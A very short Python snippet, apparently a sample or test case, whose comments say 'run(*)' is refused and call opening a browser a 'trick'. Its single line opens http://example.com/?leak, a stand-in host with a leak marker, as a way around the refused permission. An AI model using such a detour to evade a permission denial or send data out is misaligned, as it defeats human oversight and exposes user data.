# Trick: a browser opens an address.
# Refused: run(*)
import webbrowser

webbrowser.open("http://example.com/?leak")
